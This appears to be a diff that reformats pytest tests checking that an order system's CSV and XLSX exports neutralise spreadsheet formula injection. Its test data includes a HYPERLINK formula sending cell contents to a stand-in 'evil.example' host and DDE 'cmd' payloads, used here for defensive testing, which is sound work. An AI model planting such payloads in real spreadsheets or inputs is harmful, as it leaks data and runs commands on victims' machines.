@@ -22,8 +22,15 @@ from ops_db.orders import service as orders
 from tests.conftest import Shop
 
 HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1, "Open")'
-ATTACKS = [HYPERLINK, "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0",
-           "\t=1+1", "\r=1+1", "=1+1"]
+ATTACKS = [
+    HYPERLINK,
+    "+cmd|' /C calc'!A0",
+    "-2+3+cmd|' /C calc'!A0",
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    "\t=1+1",
+    "\r=1+1",
+    "=1+1",
+]
 
 
 @pytest.mark.parametrize("attack", ATTACKS)
@@ -31,8 +38,9 @@ def test_text_that_starts_a_formula_gets_a_leading_quote(attack: str) -> None:
     assert safe_cell(attack) == "'" + attack
 
 
-@pytest.mark.parametrize("harmless", ["Ana Souza", "", "a=b", " =x", "-12.50", "+1 555 0100", "-$5.00",
-                                      "-1 234,50 €", "-5%"])
+@pytest.mark.parametrize(
+    "harmless", ["Ana Souza", "", "a=b", " =x", "-12.50", "+1 555 0100", "-$5.00", "-1 234,50 €", "-5%"]
+)
 def test_ordinary_text_and_text_that_is_only_a_number_stay_as_they_are(harmless: str) -> None:
     assert safe_cell(harmless) == harmless
 
@@ -45,12 +53,14 @@ def test_numbers_dates_and_empty_cells_are_not_text_and_stay_as_they_are() -> No
 
 
 def _frame() -> pd.DataFrame:
-    return pd.DataFrame({
-        "customer": [*ATTACKS, "Zoë", None],
-        "balance": [-5.25, -1, 0, 2, 3, 4, 5, -7, 8.5],
-        "due": pd.to_datetime(["2026-11-02"] * 9).tz_localize("UTC"),
-        "stage": pd.Series(["received"] * 8 + ["-ready"], dtype="string"),
-    })
+    return pd.DataFrame(
+        {
+            "customer": [*ATTACKS, "Zoë", None],
+            "balance": [-5.25, -1, 0, 2, 3, 4, 5, -7, 8.5],
+            "due": pd.to_datetime(["2026-11-02"] * 9).tz_localize("UTC"),
+            "stage": pd.Series(["received"] * 8 + ["-ready"], dtype="string"),
+        }
+    )
 
 
 def test_csv_download_neutralises_text_and_keeps_negative_numbers() -> None:
@@ -86,9 +96,15 @@ def test_the_headings_of_a_download_are_neutralised_too() -> None:
 
 
 def test_a_portal_request_named_like_a_formula_comes_out_of_every_document_as_text(shop: Shop) -> None:
-    receipt = orders.submit_request(UnitOfWork(shop.engine, Actor.public(shop.tenant_id)), orders.RequestIn(
-        contact_name=HYPERLINK, contact_email="mallory@example.com", item_type="@phone",
-        problem_description="-2+3+cmd|' /C calc'!A0"))
+    receipt = orders.submit_request(
+        UnitOfWork(shop.engine, Actor.public(shop.tenant_id)),
+        orders.RequestIn(
+            contact_name=HYPERLINK,
+            contact_email="mallory@example.com",
+            item_type="@phone",
+            problem_description="-2+3+cmd|' /C calc'!A0",
+        ),
+    )
     data = render(UnitOfWork(shop.engine, Actor.system(shop.tenant_id)), "intake_receipt", receipt.order_id, "xlsx")
     sheet = load_workbook(io.BytesIO(data)).active
     assert sheet is not None
@@ -103,8 +119,12 @@ def test_a_portal_request_named_like_a_formula_comes_out_of_every_document_as_te
 def test_the_orders_board_download_neutralises_a_formula_customer(shop: Shop) -> None:
     from dashboards.data.orders import open_orders
 
-    orders.submit_request(UnitOfWork(shop.engine, Actor.public(shop.tenant_id)), orders.RequestIn(
-        contact_name=HYPERLINK, contact_phone="+1 555 0100", item_type="phone", problem_description="cracked"))
+    orders.submit_request(
+        UnitOfWork(shop.engine, Actor.public(shop.tenant_id)),
+        orders.RequestIn(
+            contact_name=HYPERLINK, contact_phone="+1 555 0100", item_type="phone", problem_description="cracked"
+        ),
+    )
     listed = open_orders(shop.engine, shop.person("manager"), search="", limit=50)  # type: ignore[arg-type]
     rows = list(csv.reader(io.StringIO(to_csv(listed).decode("utf-8-sig"))))
     assert any("'" + HYPERLINK in row for row in rows[1:])
